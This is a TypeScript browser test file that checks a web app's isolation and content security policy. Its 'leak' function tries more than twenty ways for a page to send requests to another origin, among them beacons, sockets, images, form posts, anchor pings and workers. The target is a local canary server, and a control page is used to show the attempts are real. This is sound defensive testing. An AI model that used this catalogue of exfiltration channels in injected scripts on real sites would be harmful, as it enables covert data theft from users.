import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { startApp } from "../support/browser.ts";
import type { App } from "../support/browser.ts";

let app: App;
beforeAll(async () => (app = await startApp()));
afterAll(() => app.close());

describe("the page in the browser", () => {
  test("is isolated from other sites and knows nothing of Node", async () => {
    const page = await app.open();
    const found = await page.evaluate(() => [
      crossOriginIsolated,
      "process" in globalThis,
      "require" in globalThis,
      window.opener === null,
    ]);
    expect(found).toEqual([true, false, false, true]);
  });
});

/** A server elsewhere that counts who calls. */
async function canary(): Promise<{ origin: string; hits: string[]; close: () => void }> {
  const hits: string[] = [];
  const server = createServer((request, response) => {
    if (request.url !== "/page") hits.push(request.url ?? "");
    response
      .writeHead(200, { "Content-Type": "text/html", "Access-Control-Allow-Origin": "*" })
      .end("<!doctype html>");
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  return { origin: `http://127.0.0.1:${port}`, hits, close: () => server.close() };
}

/** Every way a page has of telling another server something, short of leaving. Runs in the page. */
function leak(origin: string): void {
  const attempts: (() => unknown)[] = [
    () => fetch(`${origin}/fetch`, { mode: "no-cors" }).catch(() => undefined),
    () => navigator.sendBeacon(`${origin}/beacon`, "x"),
    () => {
      const request = new XMLHttpRequest();
      request.open("GET", `${origin}/xhr`);
      request.send();
    },
    () => new EventSource(`${origin}/events`),
    () => new WebSocket(`${origin.replace("http", "ws")}/socket`),
    () => (new Image().src = `${origin}/image`),
    () => (document.body.style.backgroundImage = `url(${origin}/background)`),
    () => add("link", { rel: "stylesheet", href: `${origin}/style` }),
    () => add("link", { rel: "modulepreload", href: `${origin}/modulepreload` }),
    () => add("link", { rel: "prefetch", href: `${origin}/prefetch` }),
    () => add("link", { rel: "preload", as: "image", href: `${origin}/preload` }),
    () => add("link", { rel: "icon", href: `${origin}/icon` }),
    () => add("script", { src: `${origin}/script` }),
    () => add("iframe", { src: `${origin}/frame` }),
    () => add("video", { src: `${origin}/video` }),
    () => add("audio", { src: `${origin}/audio` }),
    () => add("object", { data: `${origin}/object` }),
    () => add("embed", { src: `${origin}/embed` }),
    () => new FontFace("leak", `url(${origin}/font)`).load().catch(() => undefined),
    () => import(`${origin}/import`).catch(() => undefined),
    () => {
      // Into a frame of its own, so that sending does not leave the page.
      add("iframe", { name: "target" });
      const form = document.createElement("form");
      Object.assign(form, { action: `${origin}/form`, target: "target", method: "post" });
      document.body.append(form);
      form.submit();
    },
    () => {
      const link = document.createElement("a");
      Object.assign(link, { href: "#", ping: `${origin}/ping` });
      document.body.append(link);
      link.click();
    },
    () => {
      const code = URL.createObjectURL(new Blob([`fetch("${origin}/worker", { mode: "no-cors" })`]));
      return new Worker(code);
    },
  ];
  function add(name: string, attributes: Record<string, string>): void {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    document.body.append(element);
  }
  for (const attempt of attempts) {
    try {
      attempt();
    } catch {
      // Refused at once, which is as good as refused later.
    }
  }
}

test("the content security policy lets nothing out, and without it nearly everything gets out", async () => {
  const [outside, plain] = [await canary(), await canary()];
  const context = await app.browser.newContext();
  const page = await context.newPage();

  await page.goto(app.url);
  await page.evaluate(leak, outside.origin);
  await page.waitForTimeout(1000);
  expect(outside.hits).toEqual([]);

  // The control: it proves that the attempts are real ones.
  await page.goto(`${plain.origin}/page`);
  await page.evaluate(leak, outside.origin);
  await expect.poll(() => new Set(outside.hits).size, { timeout: 5000 }).toBeGreaterThanOrEqual(20);

  await context.close();
  outside.close();
  plain.close();
});
